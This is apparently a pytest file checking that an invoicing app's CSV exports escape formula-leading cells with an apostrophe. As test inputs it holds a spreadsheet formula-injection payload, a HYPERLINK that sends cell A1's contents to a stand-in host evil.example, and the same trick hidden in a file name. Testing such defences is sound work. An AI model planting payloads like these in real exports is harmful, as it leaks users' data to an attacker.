"""No CSV the app writes can run a formula in the spreadsheet that opens it (issue 14, item 5):
a cell starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session

from app.config import Settings
from app.csvsafe import csv_bytes, safe_cell
from app.models import GeneratedDocument
from app.services import evidence
from app.services.context import Actor
from app.storage import FileStore
from tests.claim_file.conftest import build_now, text_pdf
from tests.factories import make_debtor, make_invoice

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
HOSTILE_NAME = '=HYPERLINK("evil.example","Cliquez ici").pdf'  # no "/": a file name


@pytest.mark.parametrize("value", [HOSTILE, "+33 1 23 45 67 89", "-2+3", "@SUM(A1:A2)",
                                   "\tcmd", "\r=1+1"])
def test_a_cell_read_as_a_formula_gets_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Facture F-2025-001", "", "a=b", 1234, -12.5, None])
def test_other_cells_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_csv_bytes_escapes_every_row() -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes(["n", "titre"], [[1, HOSTILE]]).decode(
        "utf-8-sig")), delimiter=";"))
    assert rows == [["n", "titre"], ["1", "'" + HOSTILE]]


def test_the_claim_file_manifest_csv_escapes_a_hostile_title_and_file_name(
        engine: Engine, settings: Settings, session: Session, owner: Actor) -> None:
    settings.ensure_dirs()
    store = FileStore(settings.files_dir)
    debtor = make_debtor(session, owner)
    make_invoice(session, owner, debtor)
    evidence.add_bytes(session, owner, store, debtor, text_pdf("Facture"), HOSTILE_NAME,
                       10_000_000, {"kind": "invoice", "title": HOSTILE,
                                    "document_date": "2025-01-10", "invoices": "F-2025-001"})
    job = build_now(engine, settings, session, owner, debtor)
    package = session.get(GeneratedDocument, job.zip_document_id)
    assert package is not None
    with zipfile.ZipFile(store.path_for(package.sha256)) as archive:
        text = archive.read("manifest.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 1
    assert rows[0]["title"] == "'" + HOSTILE
    assert rows[0]["original_name"] == "'" + HOSTILE_NAME
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
